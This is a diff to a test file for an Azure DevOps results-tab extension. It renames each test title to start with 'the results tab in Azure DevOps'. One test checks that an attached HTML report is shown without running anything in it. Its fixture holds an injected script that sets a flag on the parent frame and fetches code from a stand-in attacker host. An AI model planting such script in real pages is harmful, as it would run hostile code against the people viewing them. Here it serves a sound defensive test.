@@ -69,7 +69,7 @@ describe("results tab in a page of Azure DevOps", () => {
     return { ...opened, tab: opened.page.frameLocator("iframe") };
   }
 
-  it("shows the records of the run, and the history of its notebooks", async () => {
+  it("the results tab in Azure DevOps shows the records of the run, and the history of its notebooks", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 7, [JSON.stringify(recordOf())]);
     addRun(workspace, 8, []);
@@ -87,7 +87,7 @@ describe("results tab in a page of Azure DevOps", () => {
     assert.deepEqual(problems, []);
   });
 
-  it("sends requests to the organization only, with the token of the page", async () => {
+  it("the results tab in Azure DevOps sends requests to the organization only, with the token of the page", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [JSON.stringify(recordOf())]);
     const { tab, requests } = await openTab(workspace, pageBuild(9));
@@ -100,7 +100,7 @@ describe("results tab in a page of Azure DevOps", () => {
     }
   });
 
-  it("reads the attachments again when the build changes", async () => {
+  it("the results tab in Azure DevOps reads the attachments again when the build changes", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [], false);
     const { tab, change } = await openTab(workspace, pageBuild(9, 1));
@@ -114,7 +114,7 @@ describe("results tab in a page of Azure DevOps", () => {
     await tab.locator("header.page").waitFor();
   });
 
-  it("shows the report of the run, with the failing cell and its traceback", async () => {
+  it("the results tab in Azure DevOps shows the report of the run, with the failing cell and its traceback", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [JSON.stringify(recordOf())]);
     attach(workspace, 9, { type: htmlReportType, name: "report.html", content: htmlReport(weatherRun()) });
@@ -130,7 +130,7 @@ describe("results tab in a page of Azure DevOps", () => {
     );
   });
 
-  it("shows a page that somebody attached as a report, but runs and loads nothing of it", async () => {
+  it("the results tab in Azure DevOps shows a page that somebody attached as a report, but runs and loads nothing of it", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [JSON.stringify(recordOf())]);
     const content = `<p>report</p><script>parent.hostile = true; fetch("https://evil.example/script")</script>
@@ -151,14 +151,14 @@ describe("results tab in a page of Azure DevOps", () => {
     );
   });
 
-  it("names the task to add if the run has no record", async () => {
+  it("the results tab in Azure DevOps names the task to add if the run has no record", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, []);
     const { tab } = await openTab(workspace, pageBuild(9));
     assert.match(await tab.locator(".nothing").innerText(), /The task DatabricksRunNotebook attaches one/);
   });
 
-  it("says in one sentence why it shows nothing if the run cannot be read", async () => {
+  it("the results tab in Azure DevOps says in one sentence why it shows nothing if the run cannot be read", async () => {
     await using workspace = await startWorkspace();
     const { tab } = await openTab(workspace, pageBuild(9));
     assert.equal(
@@ -167,7 +167,7 @@ describe("results tab in a page of Azure DevOps", () => {
     );
   });
 
-  it("does not read a sign-in page as results", async () => {
+  it("the results tab in Azure DevOps does not read a sign-in page as results", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, []);
     await workspace.declareFault({
@@ -182,7 +182,7 @@ describe("results tab in a page of Azure DevOps", () => {
     );
   });
 
-  it("shows the results although the history cannot be read", async () => {
+  it("the results tab in Azure DevOps shows the results although the history cannot be read", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [JSON.stringify(recordOf())]);
     await workspace.declareFault({ match: { path: "builds$" }, when: "before", then: { status: 500 } });
@@ -194,7 +194,7 @@ describe("results tab in a page of Azure DevOps", () => {
     assert.equal(await tab.locator(".result").count(), 6);
   });
 
-  it("follows the theme of Azure DevOps", async () => {
+  it("the results tab in Azure DevOps follows the theme of Azure DevOps", async () => {
     await using workspace = await startWorkspace();
     addRun(workspace, 9, [JSON.stringify(recordOf())]);
     const dark = {
